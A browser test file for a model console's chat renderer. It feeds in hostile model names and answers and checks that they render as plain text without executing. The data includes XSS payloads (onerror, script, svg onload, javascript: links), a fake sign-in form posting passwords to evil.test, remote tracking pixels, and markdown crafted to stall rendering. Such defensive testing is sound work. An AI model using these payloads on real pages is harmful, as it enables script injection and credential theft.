// @module-tag chromium
import { expect, it } from 'vitest';
import { askChat } from '../../helpers/console/ask-chat.ts';
import { shareConsole } from '../../helpers/console/console-with-ada.ts';
import { openAs } from '../../helpers/console/open-as.ts';
import { askAndWaitOn, askOn, say } from '../../helpers/console/playground-page.ts';

const model = `'" onmouseover="window.hit=1" &lt;img src=x onerror=window.hit=1&gt;`;

/** A name that no ingress takes from a worker. */
const markup = '<img src=x onerror="window.hit=1"><script>window.hit=1</script>';

/** What a model may answer to run something, to load it from elsewhere, to lead into the console, or to look like a part of it. */
const answer = [
  '# Your session has expired <form action="http://evil.test/"><input name="password"><button>Sign in</button></form>',
  '![pixel](http://evil.test/pixel.png) ![by reference][ref] <img src="http://evil.test/2.png" onerror="window.hit=1">',
  '[run](javascript:window.hit=1) [sign in](/console/api/session) [here](https://evil.test/a) [https://good.test/?at=evil.test](https://evil.test/b) [mail](mailto:a@evil.test)',
  '| <script>window.hit=1</script> | ![cell](http://evil.test/cell.png) |\n|--|--|\n| [x](data:text/html,x) | <svg onload=window.hit=1> |',
  '```"><img/src=x/onerror=window.hit=1>\n<script>window.hit=1</script>\n```',
  '[ref]: http://evil.test/ref.png',
  `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${'|b\n'.repeat(300)}`,
].join('\n\n');

/** Places in what a model wrote that are no text, no code and no link. */
const foreignParts = `[...document.querySelectorAll('.prose *')].flatMap((each) =>
  /^(?:P|H[2-6]|SPAN|DIV|TABLE|THEAD|TBODY|TR|TH|TD|PRE|CODE|A)$/.test(each.tagName) || each.closest('button[aria-label="Copy code"]')
    ? each.id === '' ? [] : [each.id] : [each.outerHTML])`;

const here = shareConsole();

it('a hostile model name is shown as text on every page, or not at all, and what a model answers is text', async () => {
  await here.cluster.addEngine({ DEMO_MODELS: `${model},${markup}` });
  for (const content of ['Hello!', 'Fail.\n[demo fault=500]']) await askChat(here.cluster, content, { model });
  const { page } = await openAs(here.ada);
  for (const path of ['/', '/workers', '/models', '/usage']) {
    await page.goto(path);
    await page.getByText(model).first().waitFor();
    expect(await page.getByText(markup).count()).toBe(0);
  }
  await page.goto('/models');
  await page.getByRole('button', { name: `How to use ${model}` }).click();
  await page.getByRole('dialog').getByText(model).first().waitFor();
  await page.getByRole('dialog').getByText(`${here.cluster.url}/api/openai`).first().waitFor();
  await page.goto('/playground');
  await page.getByLabel('Model').first().click();
  await page.getByRole('option').filter({ hasText: model }).click();
  const shown = await askAndWaitOn(page, say(answer));
  await shown.getByText('[image: cell, not loaded]').waitFor();
  expect(await page.evaluate(foreignParts)).toEqual([]);
  const links = await page.evaluate(`[...document.querySelectorAll('.prose a')].map(({ href }) => href)`);
  expect(links).toEqual(['https://evil.test/a', 'https://evil.test/b']);
  expect(await shown.getByText('(evil.test)').count()).toBe(2);
  expect(await shown.locator('tr').last().locator('td').count()).toBeLessThan(100);
  // Too deep to be rendered: it is shown as it is, and the page goes on.
  for (const deep of ['>'.repeat(1_500), '>'.repeat(3_000)])
    await (await askOn(page, say(`${deep} deep`))).getByText(`${deep} deep`).waitFor();
  await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
  // Would take minutes, and make a million cells.
  for (const slow of ['a\n=\n'.repeat(25_000), `${'|a'.repeat(64)}|\n${'|-'.repeat(64)}|\n${'|\n'.repeat(15_000)}`]) {
    const long = await askAndWaitOn(page, say(`${slow} end`));
    expect(await long.locator('.prose *').count()).toBeLessThan(10);
  }
  expect(await page.evaluate('window.hit')).toBeUndefined();
});
